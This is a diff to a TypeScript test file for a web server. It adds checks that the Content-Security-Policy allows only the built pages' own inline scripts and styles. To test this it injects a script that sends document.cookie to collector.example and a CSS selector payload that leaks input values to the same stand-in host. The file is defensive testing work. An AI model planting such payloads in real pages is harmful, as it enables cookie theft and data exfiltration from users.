@@ -7,15 +7,17 @@
  *    without a length, a host that never answers, HTML sent as image/jpeg; a name that resolves
  *    to 127.0.0.1. No request reaches a refused address, and the default picture is served.
  */
-import { mkdtempSync, rmSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
 import { createServer, request, type IncomingMessage, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { join, resolve } from 'node:path';
 import { setFlagsFromString } from 'node:v8';
 import { runInNewContext } from 'node:vm';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { ourInlineCode, pagePolicy } from '../../server/http/csp.ts';
 import { addressAllowed, FetchRefused, parseHostRule, safeFetch, type HostRule } from '../../server/http/safe-fetch.ts';
 import { HOSTILE_PATHS } from '../support/hostile-paths.ts';
 import { startTestServer, type TestServer } from '../support/servers.ts';
@@ -394,7 +396,29 @@ describe('which addresses the server may fetch', () => {
   });
 });
 
+const SITE_DIR = resolve(import.meta.dirname, '../../dist/site');
+const OURS = ourInlineCode(SITE_DIR);
+const sha256 = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
+
 describe('security headers on every answer', () => {
+  it('the Content-Security-Policy lets run only the inline code the built pages hold: a script or style that reached a page any other way is not hashed', () => {
+    const page = readFileSync(join(SITE_DIR, 'listing.html'), 'utf8');
+    const script = 'fetch("https://collector.example/?c=" + document.cookie)';
+    const style = 'input[value^="a"] { background: url(https://collector.example/a) }';
+    const injected = page.replace('</body>', () => `<script>${script}</script><style>${style}</style></body>`);
+    const policy = pagePolicy(injected, { connect: [], scripts: [], inline: OURS });
+    expect(policy).not.toContain(sha256(script));
+    expect(policy).not.toContain(sha256(style));
+    // the page's own boot script and style still run
+    const own = /<script>([\s\S]*?)<\/script>/.exec(page)?.[1] ?? '';
+    expect(own.length).toBeGreaterThan(100);
+    expect(policy).toContain(sha256(own));
+    expect(policy).toMatch(/style-src 'self' 'sha256-/);
+    // without the pages' code, no inline code at all
+    expect(pagePolicy(page, { connect: [], scripts: [] })).not.toMatch(/sha256-/);
+  });
+
+
   it("HSTS once the site is published on https; nosniff on pages, JSON and functions; a Content-Security-Policy on every page, the 404 and the alert links' pages included", async () => {
     const published = await startTestServer('postgres', { site: { url: 'https://expecuador.example' } });
     const local = await startTestServer('postgres');
@@ -412,6 +436,10 @@ describe('security headers on every answer', () => {
         const policy = (await fetch(`${local.url}${path}`)).headers.get('content-security-policy') ?? '';
         expect(policy, path).toMatch(/^default-src 'self'; script-src 'self' 'sha256-[A-Za-z0-9+/=]{44}'/);
         expect(policy, path).toContain("frame-ancestors 'self'");
+        // every inline script it lets run is one the built pages hold
+        const hashes = [...(/script-src ([^;]*)/.exec(policy)?.[1] ?? '').matchAll(/'(sha256-[^']+)'/g)].map((m) => `'${m[1]}'`);
+        expect(hashes.length, path).toBeGreaterThan(0);
+        for (const h of hashes) expect(OURS.scripts.has(h), `${path} ${h}`).toBe(true);
       }
     } finally {
       await published.close();
